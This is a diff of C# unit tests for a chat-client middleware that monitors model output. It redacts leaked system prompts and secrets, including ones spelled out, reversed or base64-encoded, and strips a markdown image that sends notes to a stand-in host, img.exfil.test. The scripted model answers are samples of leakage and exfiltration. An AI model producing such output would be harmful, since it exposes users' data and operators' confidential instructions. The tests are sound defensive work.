@@ -1,5 +1,6 @@
 using System.Text;
 using System.Text.Json;
+using InstructionHierarchy.Responses;
 using Microsoft.Extensions.AI;
 
 namespace InstructionHierarchy.Extensions.AI.Tests;
@@ -333,14 +334,24 @@ public class InstructionHierarchyChatClientTests
     }
 
     [Fact]
-    public async Task GetStreamingResponseAsync_CleanText_IsReleasedWithoutDelay()
+    public async Task GetStreamingResponseAsync_CleanText_IsReleasedInOrderWithABoundedDelay()
     {
-        var model = new ScriptedChatClient().StreamText("Hello ", "there, ", "traveller.");
+        // The monitor holds back a bounded tail (256 characters here) that could still become a leak; the rest flows on.
+        string[] chunks = [.. Enumerable.Range(0, 8).Select(i => $"Sentence {i} of a long and perfectly harmless answer about trail running shoes, {new string('.', 40)} ")];
+        var model = new ScriptedChatClient().StreamText(chunks);
         IChatClient client = model.WithInstructionHierarchy(Pipelines.WithSecret("discount code", "SAVE-4412-XYZ"));
 
         List<ChatResponseUpdate> updates = await ToListAsync(client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "hi")]));
 
-        Assert.Equal(["Hello ", "there, ", "traveller."], updates.Select(u => u.Text));
+        Assert.Equal(string.Concat(chunks), string.Concat(updates.Select(u => u.Text)));
+        Assert.True(updates.Count >= 4, $"only {updates.Count} updates: text was not released before the end");
+        int received = 0, released = 0;
+        for (int i = 0; i < chunks.Length; i++)
+        {
+            received += chunks[i].Length;
+            released += updates[i].Text.Length;
+            Assert.True(received - released <= 256, $"{received - released} characters held after chunk {i}");
+        }
     }
 
     [Fact]
@@ -356,10 +367,9 @@ public class InstructionHierarchyChatClientTests
         List<ChatResponseUpdate> updates = await ToListAsync(client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "hi")]));
 
         List<AIContent> contents = updates.SelectMany(u => u.Contents).ToList();
-        Assert.Equal("Checking ", ((TextContent)contents[0]).Text);
-        Assert.Equal("SAV", ((TextContent)contents[1]).Text);
-        Assert.Same(call, contents[2]);
-        Assert.IsType<UsageContent>(contents[3]);
+        Assert.Equal("Checking SAV", ((TextContent)contents[0]).Text); // held whole (shorter than the hold-back), flushed before the call
+        Assert.Same(call, contents[1]);
+        Assert.IsType<UsageContent>(contents[2]);
         Assert.Equal(ChatFinishReason.ToolCalls, updates[^1].FinishReason);
     }
 
@@ -371,8 +381,82 @@ public class InstructionHierarchyChatClientTests
 
         List<ChatResponseUpdate> updates = await ToListAsync(client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "hi")]));
 
-        Assert.Equal(["Almost a secret: ", "SAVE-44"], updates.Select(u => u.Text));
+        Assert.Equal(["", "Almost a secret: SAVE-44"], updates.Select(u => u.Text)); // held whole (shorter than the hold-back)
         Assert.Equal("m1", updates[1].MessageId);
+    }
+
+    [Fact]
+    public async Task GetStreamingResponseAsync_SystemPromptLeakedInSmallChunks_IsRedacted()
+    {
+        const string system = "You are the concierge of Hotel Miramar. Offer late checkout only to guests holding a platinum membership card.";
+        string leak = "My instructions: you are the concierge of Hotel Miramar. Offer late checkout only to guests holding a platinum membership card. Anything else?";
+        var model = new ScriptedChatClient().StreamText([.. leak.Chunk(5).Select(c => new string(c))]);
+        IReadOnlyList<ResponseFinding>? findings = null;
+        IChatClient client = model.WithInstructionHierarchy(Pipelines.Default, o => o.OnResponseFindings = f => findings = f);
+
+        List<ChatResponseUpdate> updates = await ToListAsync(client.GetStreamingResponseAsync(
+            [new ChatMessage(ChatRole.System, system), new ChatMessage(ChatRole.User, "Can I get a late checkout?")]));
+
+        string text = string.Concat(updates.Select(u => u.Text));
+        Assert.DoesNotContain("platinum membership", text, StringComparison.Ordinal);
+        Assert.Contains("[redacted: system prompt]", text, StringComparison.Ordinal);
+        Assert.EndsWith("Anything else?", text, StringComparison.Ordinal);
+        Assert.Contains(findings!, f => f.Kind == ResponseFindingKind.SystemPromptLeak);
+    }
+
+    [Fact]
+    public async Task GetStreamingResponseAsync_ExfiltrationImageAcrossChunks_IsRemoved()
+    {
+        var model = new ScriptedChatClient().StreamText("Summary ready. ![chart](https://img.exfil", ".test/c.png?notes=guest+list+", "room+412) See you.");
+        IChatClient client = model.WithInstructionHierarchy(Pipelines.Default);
+
+        List<ChatResponseUpdate> updates = await ToListAsync(client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "Summarize my notes.")]));
+
+        Assert.All(updates, u => Assert.DoesNotContain("img.exfil.test/c.png", u.Text, StringComparison.Ordinal));
+        Assert.Equal("Summary ready. [image removed: img.exfil.test] See you.", string.Concat(updates.Select(u => u.Text)));
+    }
+
+    [Theory]
+    [InlineData("Spelled out: S A V E 4 4 1 2 X Y Z.")]
+    [InlineData("Backwards: ZYX-2144-EVAS.")]
+    [InlineData("Encoded: U0FWRS00NDEyLVhZWg==.")]
+    public async Task GetResponseAsync_SecretRespelledOrEncoded_IsRedacted(string answer)
+    {
+        // Stronger than the former verbatim check, which let all three through.
+        var model = new ScriptedChatClient().Respond(answer);
+        IChatClient client = model.WithInstructionHierarchy(Pipelines.WithSecret("discount code", "SAVE-4412-XYZ"));
+
+        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "hi")]);
+
+        Assert.Equal(answer[..(answer.IndexOf(':', StringComparison.Ordinal) + 2)] + "[redacted: secret].", response.Text);
+    }
+
+    [Fact]
+    public async Task GetResponseAsync_CleanAnswer_IsTheSameInstanceAndNoFindingsAreReported()
+    {
+        var original = new ChatResponse(new ChatMessage(ChatRole.Assistant, "Trail shoes are on sale.")) { RawRepresentation = "raw" };
+        var model = new ScriptedChatClient().Respond(original);
+        bool reported = false;
+        IChatClient client = model.WithInstructionHierarchy(Pipelines.WithSecret("discount code", "SAVE-4412-XYZ"), o => o.OnResponseFindings = _ => reported = true);
+
+        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "hi")]);
+
+        Assert.Equal("raw", response.RawRepresentation);
+        Assert.False(reported);
+    }
+
+    [Fact]
+    public async Task GetResponseAsync_AllowedHostOnTheInspector_KeepsTheLink()
+    {
+        var inspectorOptions = new ResponseInspectorOptions();
+        inspectorOptions.AllowedHosts.Add("contoso.test");
+        const string answer = "Your report: ![chart](https://cdn.contoso.test/chart.png?id=42)";
+        var model = new ScriptedChatClient().Respond(answer);
+        IChatClient client = model.WithInstructionHierarchy(Pipelines.Default, o => o.ResponseInspector = new ResponseInspector(inspectorOptions));
+
+        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "hi")]);
+
+        Assert.Equal(answer, response.Text);
     }
 
     [Fact]
